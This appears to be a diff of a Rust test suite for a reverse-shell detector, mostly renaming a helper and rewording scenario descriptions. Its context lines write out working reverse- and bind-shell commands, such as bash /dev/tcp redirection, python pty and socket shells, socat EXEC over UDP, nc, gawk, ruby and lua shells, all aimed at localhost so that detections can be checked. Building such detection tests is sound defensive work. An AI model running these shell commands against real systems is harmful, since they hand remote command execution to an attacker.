@@ -1,7 +1,7 @@
-//! Shells whose input and output are a connection's, in as many ways as people know.
+//! Shells whose input and output are a connection's, in all known ways.
 //!
-//! Each act looks at /proc/PID/fd itself and fails where it is not what its row says. Not tried: shells over raw sockets (R21),
-//! and such as live for less than a scan or two.
+//! Each act checks /proc/PID/fd itself and fails if it does not match the description. Not tested:
+//! shells over raw sockets (R21), and shells that live for less than a scan or two.
 
 use super::{Expected, Scenario, Stage, record};
 
@@ -46,14 +46,14 @@ while os.path.exists(os.environ["hold"]): time.sleep(0.1)
     };
 }
 
-const fn told(fields: &'static [(&'static str, &'static str)]) -> Expected {
+const fn detected(fields: &'static [(&'static str, &'static str)]) -> Expected {
     record("reverse_shell_detected").with(fields)
 }
 
 /// The chain's length, its first process (which has the connection), and the connection's far end.
 macro_rules! chain {
     ($direction:literal, $length:literal, $holder:literal, $port:literal $(, $more:tt)*) => {
-        &[told(&[
+        &[detected(&[
             ("detection.reason", concat!("~", $direction)),
             ("reverse_shell.process_list.length", $length),
             ("reverse_shell.process_list.0.process_id", $holder),
@@ -84,7 +84,7 @@ pub(super) const SCENARIOS: &[Scenario] = &[
         ))
         .expect(chain!("outbound", "1", "$shell", "4401",
             ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "127.0.0.1"))),
-    shell("R01b", "a peer that says all it has to say at once, and closes its side")
+    shell("R01b", "a peer that sends all its commands at once, and closes its side")
         .prepare(script!(
             r#"python3 -c '
 import os, socket, time
@@ -150,12 +150,12 @@ while os.path.exists(os.environ["hold"]): time.sleep(0.1)
             await 'at $other 255 /tmp/r02d-2 && same $other 1 $net 0 && at $net 1 /tmp/r02d-2 && at $net 3 socket:*'"#
         ))
         .expect(&[
-            told(&[
+            detected(&[
                 ("reverse_shell.process_list.length", "2"),
                 ("reverse_shell.process_list.0.process_id", "$nc"),
                 ("reverse_shell.process_list.1.process_id", "$shell"),
             ]),
-            told(&[
+            detected(&[
                 ("reverse_shell.process_list.length", "2"),
                 ("reverse_shell.process_list.0.process_id", "$net"),
                 ("reverse_shell.process_list.1.process_id", "$other"),
@@ -231,7 +231,7 @@ subprocess.call(["/bin/sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact python $
             who shell '/bin/sh -i'
             await 'at $shell 0 socket:* && same $shell 0 $python 3'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~outbound"),
             ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4406"),
         ])]),
@@ -273,7 +273,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
             for pid in $(pgrep -f '^bash -c exec 5'); do if at $pid 0 pipe:*; then fact shell $pid; fi; done
             at $shell 5 socket:*"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~outbound"),
             ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4410"),
         ])]),
@@ -286,11 +286,11 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
             who shell 'sh -i'
             await 'at $shell 0 socket:* && same $shell 0 $shell 1'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~outbound"),
             ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4411"),
         ])]),
-    equipped("R12", "gawk runs what comes in")
+    equipped("R12", "gawk runs the commands it receives")
         .prepare(script!("peer 4412 'cat'"))
         .act(script!(
             r#"act
@@ -300,7 +300,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
             await 'at $gawk 3 socket:* && ( at $cat 0 pipe:* || at $cat 0 socket:* )'
             seen; kill $cat"#
         ))
-        .expect(&[told(&[("detection.reason", "~outbound")])]),
+        .expect(&[detected(&[("detection.reason", "~outbound")])]),
     equipped("R12b", "ruby becomes a shell")
         .prepare(script!("peer 4462"))
         .act(script!(
@@ -319,7 +319,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
             who shell '/bin/sh -i'
             await 'at $shell 0 socket:* && same $shell 0 $lua 3'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~outbound"),
             ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4463"),
         ])]),
@@ -380,7 +380,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
         ))
         .expect(chain!("outbound", "1", "$shell", "4425"))
         .clean("rm -f /tmp/.update"),
-    shell("R15c", "a shell that is in no file")
+    shell("R15c", "a shell that has no file")
         .prepare(script!("peer 4435"))
         .act(script!(
             r#"act
@@ -419,7 +419,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             await 'at $shell 0 socket:* && same $shell 0 $shell 1'
             seen; kill -9 $shell"#
         ))
-        .expect(&[told(&[("detection.reason", "~127.0.0.1")])]),
+        .expect(&[detected(&[("detection.reason", "~127.0.0.1")])]),
     equipped("R16b", "socat carries a shell over UDP")
         .prepare(script!(
             "socat UDP-LISTEN:4426 EXEC:cat > /dev/null 2>&1 & fact far $!
@@ -432,7 +432,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             await 'at $shell 0 socket:*'
             seen; kill $socat $shell"#
         ))
-        .expect(&[told(&[("reverse_shell.process_list.0.process_id", "$socat")])])
+        .expect(&[detected(&[("reverse_shell.process_list.0.process_id", "$socat")])])
         .clean("pkill -x socat || true"),
     shell("R17", "a bind shell: nc accepts and becomes a shell")
         .prepare(script!(
@@ -444,7 +444,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             knock 4417
             await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~accepted"),
             ("reverse_shell.process_list.length", "1"),
             ("reverse_shell.process_list.0.process_id", "$shell"),
@@ -461,7 +461,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             who shell /bin/sh
             await 'at $shell 0 /dev/pts/*'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~accepted"),
             ("reverse_shell.process_list.length", "2"),
             ("reverse_shell.process_list.1.process_id", "$shell"),
@@ -516,11 +516,11 @@ while True:
               bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1
             done"#
         ))
-        // A slow watcher misses some of such shells: there are more until it has found ten.
-        .expect(&[told(&[("detection.reason", "~outbound")])
+        // A slow watcher misses some of these shells: more are started until it has found ten.
+        .expect(&[detected(&[("detection.reason", "~outbound")])
             .at_least(10)
             .distinct("reverse_shell.process_list.0.process_id")]),
-    equipped("R22", "a shell through a proxy that connects when it is asked")
+    equipped("R22", "a shell through a proxy that connects on request")
         .prepare(script!(
             "peer 4431
              socat TCP-LISTEN:4432 TCP:127.0.0.1:4431 > /dev/null 2>&1 & fact proxy $!
@@ -532,8 +532,8 @@ while True:
             who shell 'bash -i'
             await 'at $shell 0 socket:* && at $proxy 5 socket:*'"#
         ))
-        // The shell is there before the proxy has gone on.
-        .expect(&[told(&[("detection.reason", "~outbound")])]),
+        // The shell exists before the proxy has gone on.
+        .expect(&[detected(&[("detection.reason", "~outbound")])]),
     equipped("R22b", "a shell behind a proxy on the same machine")
         .prepare(script!(
             "peer 4441
@@ -583,7 +583,7 @@ os.execv(\"/bin/sh\", [\"sh\", \"-i\"])' < /dev/null > /dev/null 2>&1 & fact she
             who shell sh; who first 'nc 127.0.0.1 4461'; who second 'nc 127.0.0.1 4471'
             await 'same $shell 0 $first 1 && same $shell 1 $second 0 && at $first 3 socket:* && at $second 3 socket:*'"#
         ))
-        .expect(&[told(&[
+        .expect(&[detected(&[
             ("detection.reason", "~outbound"),
             ("reverse_shell.process_list.length", "3"),
         ])]),
